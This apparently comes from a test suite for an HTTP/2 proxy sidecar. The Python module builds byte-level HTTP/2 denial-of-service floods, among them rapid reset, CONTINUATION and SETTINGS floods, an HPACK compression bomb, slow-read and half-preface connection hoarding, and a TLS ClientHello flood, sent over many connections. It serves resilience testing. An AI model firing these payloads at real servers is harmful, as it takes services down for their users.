"""The floods: what is sent on each connection, on how many connections, and whether answers are read.

Out:    `ATTACKS` by name.
Limits: every script is made once and sent again on each connection, as fast as the attacker's share allows: its sender
        spends next to nothing on making it, so what the sidecar spends is held against the bare sending.
Source: attack cases H2-01, H2-03 to H2-07, H2-09 to H2-12, H2-20, H2-28, PR-12.
"""

from __future__ import annotations

import contextlib
import ssl
from collections.abc import Callable
from dataclasses import dataclass

from tests.support import frames
from tests.support.frames import (
    ACK,
    END_HEADERS,
    END_STREAM,
    MAGIC,
    PADDED,
    block,
    data,
    frame,
    head,
    integer,
    number,
    request_fields,
    settings,
)

GET = request_fields("/")
LARGE = request_fields("/bytes/1000000")
GREETING = MAGIC + settings()
STREAMS = 1_500
CHUNK = 256 * 1024


@dataclass(frozen=True)
class Attack:
    """One flood."""

    ids: str
    script: bytes
    connections: int = 10
    reads: bool = True
    # A connection whose script is sent: closed at once, or kept until the sidecar closes it.
    keeps: bool = False
    # The port of the application with large answers instead of the other one.
    large: bool = False


def each(make: Callable[[int], bytes], greeting: bytes = GREETING) -> bytes:
    """So many streams, one after the other."""
    return greeting + b"".join(make(1 + 2 * number) for number in range(STREAMS))


def many(unit: bytes, before: bytes = b"") -> bytes:
    """One frame again and again, 256 KiB of it."""
    return GREETING + before + unit * (CHUNK // len(unit))


def rapid_reset(at: int) -> bytes:
    return head(at, GET) + number(frames.RST_STREAM, at, frames.CANCEL)


def provoked(make: Callable[[int], bytes]) -> bytes:
    return each(lambda at: head(at, GET) + make(at))


def bomb(name: str, value: str) -> bytes:
    """A stored field, referenced 12,000 times in each block."""
    first = block(GET) + block([(name, value)], 0x40)
    again = block(GET) + integer(62, 7, 0x80) * 12_000
    out = GREETING + frame(frames.HEADERS, END_HEADERS | END_STREAM, 1, first)
    return out + b"".join(frame(frames.HEADERS, END_HEADERS | END_STREAM, at, again) for at in range(3, 43, 2))


def client_hello() -> bytes:
    """What OpenSSL says first, as one TLS record."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["istio-h2", "istio", "h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname="outbound_.9080_._.server.default.svc.cluster.local")
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()


CONTINUATIONS = frame(frames.CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)
ATTACKS: dict[str, Attack] = {
    "rapid-reset-1": Attack("H2-01", each(rapid_reset), connections=1),
    "rapid-reset": Attack("H2-01", each(rapid_reset)),
    "rapid-reset-100": Attack("H2-01", each(rapid_reset), connections=100),
    "made-you-reset": Attack("H2-03", provoked(lambda at: data(at, b"x"))),
    "made-you-reset-update-zero": Attack("H2-03", provoked(lambda at: number(frames.WINDOW_UPDATE, at, 0))),
    "made-you-reset-overflow": Attack("H2-03", provoked(lambda at: number(frames.WINDOW_UPDATE, at, 0x7FFF_FFFF))),
    "made-you-reset-priority": Attack("H2-03", provoked(lambda at: frame(frames.PRIORITY, 0, at, at.to_bytes(4) + b"\0"))),
    "made-you-reset-priority-length": Attack("H2-03", provoked(lambda at: frame(frames.PRIORITY, 0, at, bytes(4)))),
    "made-you-reset-headers": Attack("H2-03", provoked(lambda at: head(at, GET))),
    "continuation": Attack("H2-04", GREETING + frame(frames.HEADERS, END_STREAM, 1, block(GET)) + CONTINUATIONS * 400),
    "continuation-empty": Attack("H2-04", many(frame(frames.CONTINUATION, 0, 1), frame(frames.HEADERS, END_STREAM, 1, block(GET)))),
    "settings": Attack("H2-05", many(settings())),
    "settings-large": Attack("H2-05", many(settings(*[(0x99, value) for value in range(2_000)]))),
    "settings-ack": Attack("H2-05", many(frame(frames.SETTINGS, ACK))),
    "ping-unread": Attack("H2-06", many(frame(frames.PING, payload=bytes(8))), reads=False),
    "empty-data": Attack("H2-07", many(data(1), head(1, request_fields("/", method="POST"), end=False))),
    "slow-read": Attack("H2-09", MAGIC + settings((4, 1)) + b"".join(head(at, LARGE) for at in range(1, 200, 2)), 20, reads=False, keeps=True, large=True),
    "resets-unread": Attack("H2-10", provoked(lambda at: number(frames.WINDOW_UPDATE, at, 0)), reads=False),
    "priority": Attack("H2-11", many(frame(frames.PRIORITY, 0, 1, bytes([0, 0, 0, 0, 9])))),
    "hpack-bomb": Attack("H2-12", bomb("x-bomb", "a" * 3_900)),
    "hpack-crumbs": Attack("H2-12", bomb("cookie", "a")),
    "padding": Attack("H2-20", many(frame(frames.DATA, PADDED, 1, b"\xff" + bytes(255)), head(1, request_fields("/", method="POST"), end=False))),
    "unknown": Attack("H2-28", many(frame(0x77, 0, 0, b""))),
    "half-preface": Attack("H2-29", MAGIC[:3], 200, keeps=True),
    "connections": Attack("PR-12", b"", 50),
    "tls-hello": Attack("PR-12", client_hello(), 20),
}  # fmt: skip
# What is in every test run.
TELLING = ("rapid-reset", "made-you-reset", "hpack-bomb", "slow-read", "tls-hello")
